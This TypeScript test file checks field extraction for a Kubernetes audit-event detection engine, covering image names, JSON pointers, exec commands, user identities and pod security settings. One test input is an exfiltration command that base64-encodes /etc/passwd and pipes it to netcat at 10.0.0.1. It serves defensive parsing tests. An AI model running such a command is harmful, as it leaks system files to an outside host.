import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { AuditEvent } from './event.js';
import { commandPrograms, identityKind, imageRepository, parsePointer, resolveField } from './fields.js';

function field(name: string, ev: AuditEvent, arg?: string) {
  const found = resolveField(name, arg);
  if ('error' in found) assert.fail(found.error);
  return found.extract(ev);
}

test('image repository drops tag and digest but keeps a registry port', () => {
  assert.equal(imageRepository('nginx'), 'nginx');
  assert.equal(imageRepository('nginx:1.27'), 'nginx');
  assert.equal(imageRepository('registry:5000/team/app:1.0@sha256:abc'), 'registry:5000/team/app');
  assert.equal(imageRepository('registry:5000/team/app'), 'registry:5000/team/app');
});

test('JSON pointers unescape ~1 and ~0 (RFC 6901)', () => {
  assert.deepEqual(parsePointer('/annotations/authorization.k8s.io~1decision'), ['annotations', 'authorization.k8s.io/decision']);
  assert.deepEqual(parsePointer('/a~1~0b'), ['a/~b']);
  assert.equal(parsePointer('stage'), undefined);
  const ev = { kind: 'Event', 'a/~b': 1, list: [{ x: 'y' }], annotations: { 'authorization.k8s.io/decision': 'allow' } } as unknown as AuditEvent;
  assert.equal(field('jevt.value', ev, '/a~1~0b'), '1');
  assert.equal(field('jevt.value', ev, '/list/0/x'), 'y');
  assert.equal(field('jevt.value', ev, '/list/01/x'), undefined);
  assert.equal(field('jevt.value', ev, '/list'), '[{"x":"y"}]');
  assert.equal(field('jevt.value', ev, '/annotations/authorization.k8s.io~1decision'), 'allow');
});

test('exec command programs include those inside sh -c scripts, as file names', () => {
  assert.deepEqual(commandPrograms(['sh', '-c', 'cat /etc/passwd|/usr/bin/base64;nc -q0 10.0.0.1 80']), ['sh', 'cat', 'passwd', 'base64', 'nc', '10.0.0.1', '80']);
  const ev = { kind: 'Event', objectRef: { resource: 'pods', subresource: 'exec' }, requestURI: '/api/v1/namespaces/a/pods/b/exec?command=%2Fbin%2Ftar&command=cf&command=-&command=%2Fdata&container=c' } as AuditEvent;
  assert.equal(field('sk.exec.binary', ev), 'tar');
  assert.equal(field('sk.exec.command', ev), '/bin/tar cf - /data');
  assert.equal(field('ka.uri.param', ev, 'container'), 'c');
});

test('identity kinds', () => {
  assert.equal(identityKind('alice@example.com'), 'human');
  assert.equal(identityKind('system:serviceaccount:a:b'), 'serviceaccount');
  assert.equal(identityKind('system:node:w1'), 'node');
  assert.equal(identityKind('system:kube-scheduler'), 'system');
  assert.equal(identityKind('system:anonymous'), 'anonymous');
  const imp = { kind: 'Event', user: { username: 'bob' }, impersonatedUser: { username: 'alice' } } as AuditEvent;
  assert.equal(field('sk.user.name', imp), 'alice');
  assert.equal(field('ka.user.name', imp), 'bob');
  assert.equal(field('ka.impuser.name', imp), 'alice');
});

test('pod fields read the request object; absent spec means no value, not false', () => {
  const pod = {
    kind: 'Event',
    objectRef: { resource: 'pods' },
    requestObject: {
      spec: {
        securityContext: { runAsUser: 1000 },
        containers: [{ image: 'a:1', securityContext: { runAsUser: 0, capabilities: { add: ['NET_ADMIN'] } }, ports: [{ hostPort: 8080 }] }, { image: 'b' }],
        initContainers: [{ image: 'init:2', securityContext: { privileged: true } }],
        volumes: [{ name: 'v', hostPath: { path: '/etc' } }, { name: 'f', flexVolume: { driver: 'x/y' } }],
      },
    },
  } as unknown as AuditEvent;
  assert.deepEqual(field('ka.req.pod.containers.eff_run_as_user', pod), ['0', '1000']);
  assert.deepEqual(field('ka.req.pod.containers.add_capabilities', pod), ['NET_ADMIN']);
  assert.deepEqual(field('ka.req.pod.containers.host_port', pod), ['8080']);
  assert.deepEqual(field('ka.req.pod.initContainers.privileged', pod), ['true']);
  assert.deepEqual(field('ka.req.pod.volumes.volume_type', pod), ['hostPath', 'flexVolume']);
  assert.deepEqual(field('ka.req.pod.volumes.flexvolume_driver', pod), ['x/y']);
  assert.equal(field('ka.req.volume.hostpath', pod, '/et*'), 'true');
  assert.equal(field('ka.req.volume.hostpath', pod, '/et'), 'false');
  assert.equal(field('ka.req.pod.host_network', pod), 'false');
  const noPod = { kind: 'Event', objectRef: { resource: 'pods' } } as AuditEvent;
  assert.equal(field('ka.req.pod.host_network', noPod), undefined);
  assert.equal(field('ka.req.pod.containers.image', noPod), undefined);
});

test('unknown fields and arguments are refused with a reason', () => {
  assert.deepEqual(resolveField('ka.nope', undefined), { error: 'unknown field ka.nope' });
  assert.deepEqual(resolveField('ka.verb', 'x'), { error: 'field ka.verb takes no argument' });
});
